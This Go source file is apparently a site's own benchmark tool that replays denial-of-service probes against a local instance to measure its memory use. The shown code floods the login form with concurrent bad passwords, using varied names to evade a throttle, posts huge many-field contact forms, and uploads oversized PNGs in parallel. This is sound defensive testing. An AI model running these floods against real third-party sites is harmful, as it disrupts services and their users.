// Command attack replays the memory attacks of the second security probe against a
// running site, as an anonymous client would, and prints how each was answered.
// bench/attack.sh starts the site and reads its peak memory after each phase.
//
//	go run ./bench/attack -url http://127.0.0.1:18093 -login admin -password … -phase login
package main

import (
	"bytes"
	"flag"
	"fmt"
	"image"
	"image/png"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"regexp"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

var (
	csrfMeta = regexp.MustCompile(`<meta name="csrf-token" content="([^"]+)"`)
	cardLink = regexp.MustCompile(`/admin/cards/(\d+)`)
)

func main() {
	base := flag.String("url", "http://127.0.0.1:8000", "the site")
	login := flag.String("login", "admin", "an admin's login (for the photo phase)")
	password := flag.String("password", "", "that admin's password")
	phase := flag.String("phase", "", "login, contact, photo, cache, drawn, bigcard, resume, download or restore-files")
	pid := flag.Int("pid", 0, "the site's process, whose CPU time the page phases read")
	metricsToken := flag.String("metrics-token", "", "the site's METRICS_TOKEN, for the page phases")
	out := flag.String("out", ".", "where restore-files writes the hostile backups")
	header := flag.String("header", "header.json", "the header.json of a real backup of the site (restore-files)")
	downloads := flag.Int("downloads", 8, "how many backups the download phase asks for at once")
	hold := flag.Duration("hold", 10*time.Second, "how long the download phase keeps them unread")
	flag.Parse()
	s := site{base: *base, pid: *pid, metricsToken: *metricsToken}
	var err error
	switch *phase {
	case "login":
		err = loginFlood(*base)
	case "contact":
		err = contactFlood(*base)
	case "photo":
		err = photoFlood(*base, *login, *password)
	case "cache":
		err = cacheFlood(s, *login, *password)
	case "drawn":
		err = drawnFlood(s, *login, *password)
	case "bigcard":
		err = bigCard(s, *login, *password)
	case "resume":
		err = bigResume(*base, *login, *password)
	case "download":
		err = stalledDownloads(*base, *login, *password, *downloads, *hold)
	case "restore-files":
		err = restoreFiles(*out, *header)
	default:
		err = fmt.Errorf("-phase must be login, contact, photo, cache, drawn, bigcard, resume, download or restore-files")
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		os.Exit(1)
	}
}

// browser is a client with a cookie jar and the CSRF token of the last page it read.
type browser struct {
	http *http.Client
	csrf string
}

func newBrowser() *browser {
	jar, _ := cookiejar.New(nil)
	return &browser{http: &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}}
}

func (b *browser) get(u string) (string, error) {
	resp, err := b.http.Get(u)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if m := csrfMeta.FindSubmatch(body); m != nil {
		b.csrf = string(m[1])
	}
	return string(body), err
}

// burst sends n requests at once and tallies the answers by status.
func burst(n int, send func() (*http.Response, error)) string {
	var mu sync.Mutex
	tally := map[string]int{}
	var wg sync.WaitGroup
	for range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			key := ""
			if resp, err := send(); err != nil {
				key = "error"
			} else {
				io.Copy(io.Discard, resp.Body) //nolint:errcheck // draining only
				resp.Body.Close()
				key = fmt.Sprint(resp.StatusCode)
			}
			mu.Lock()
			tally[key]++
			mu.Unlock()
		}()
	}
	wg.Wait()
	var parts []string
	for k, v := range tally {
		parts = append(parts, fmt.Sprintf("%s×%d", k, v))
	}
	sort.Strings(parts)
	return strings.Join(parts, " ")
}

// loginFlood: 40 wrong passwords at once, with a valid CSRF token, three times over.
func loginFlood(base string) error {
	b := newBrowser()
	if _, err := b.get(base + "/login"); err != nil {
		return err
	}
	// The first round tries one login (the throttle counts per login and address); the
	// others a different login each time, which the throttle does not stop: only the
	// memory budget bounds what their hashes take.
	for round := range 3 {
		var n atomic.Int64
		fmt.Printf("login round %d: 40 wrong passwords at once: %s\n", round+1, burst(40, func() (*http.Response, error) {
			login := "admin"
			if round > 0 {
				login = fmt.Sprintf("guess-%d-%d", round, n.Add(1))
			}
			form := url.Values{"_csrf": {b.csrf}, "login": {login}, "password": {"wrong-password-1"}}.Encode()
			return b.http.Post(base+"/login", "application/x-www-form-urlencoded", strings.NewReader(form))
		}))
	}
	return nil
}

// contactFlood: six contact forms of 11.6 MB each, 2.9 million fields, no CSRF token.
func contactFlood(base string) error {
	var body bytes.Buffer
	for i := 0; body.Len() < 11_600_000; i++ {
		fmt.Fprintf(&body, "a%d=&", i%1000)
	}
	raw := body.Bytes()
	fmt.Printf("contact: six %.1f MB forms of %d fields at once: %s\n", float64(len(raw))/1e6, bytes.Count(raw, []byte("&")),
		burst(6, func() (*http.Response, error) {
			return http.Post(base+"/contact", "application/x-www-form-urlencoded", bytes.NewReader(raw))
		}))
	return nil
}

// photoFlood: a signed-in member uploads six 4898×4898 PNGs at once.
func photoFlood(base, login, password string) error {
	b := newBrowser()
	if _, err := b.get(base + "/login"); err != nil {
		return err
	}
	resp, err := b.http.PostForm(base+"/login", url.Values{"_csrf": {b.csrf}, "login": {login}, "password": {password}})
	if err != nil {
		return err
	}
	resp.Body.Close()
	page, err := b.get(base + "/admin")
	if err != nil {
		return err
	}
	m := cardLink.FindStringSubmatch(page)
	if m == nil {
		return fmt.Errorf("signed in as %s, but /admin lists no card (status of the sign-in: %d)", login, resp.StatusCode)
	}
	img := image.NewNRGBA(image.Rect(0, 0, 4898, 4898))
	for i := range img.Pix {
		img.Pix[i] = byte(i / 4 % 251)
	}
	var pic bytes.Buffer
	if err := png.Encode(&pic, img); err != nil {
		return err
	}
	var form bytes.Buffer
	w := multipart.NewWriter(&form)
	fw, err := w.CreateFormFile("photo", "big.png")
	if err == nil {
		_, err = fw.Write(pic.Bytes())
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		return err
	}
	target := base + "/admin/cards/" + m[1] + "/photo"
	fmt.Printf("photo: six %.1f MB PNGs of 4898×4898 at once: %s\n", float64(pic.Len())/1e6, burst(6, func() (*http.Response, error) {
		req, err := http.NewRequest("POST", target, bytes.NewReader(form.Bytes()))
		if err != nil {
			return nil, err
		}
		req.Header.Set("Content-Type", w.FormDataContentType())
		req.Header.Set("X-CSRF-Token", b.csrf)
		return b.http.Do(req)
	}))
	return nil
}
